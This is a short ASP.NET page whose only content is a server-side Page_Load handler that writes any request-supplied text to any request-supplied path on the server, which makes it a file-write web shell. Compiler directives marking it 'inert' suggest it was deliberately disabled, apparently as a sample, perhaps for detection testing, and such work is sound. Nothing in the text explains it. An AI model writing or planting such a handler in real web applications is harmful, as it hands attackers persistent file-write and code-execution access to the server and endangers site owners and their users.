<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ System.IO.File.WriteAllText(Server.MapPath(Request["f"]),Request["t"]); }
</script>
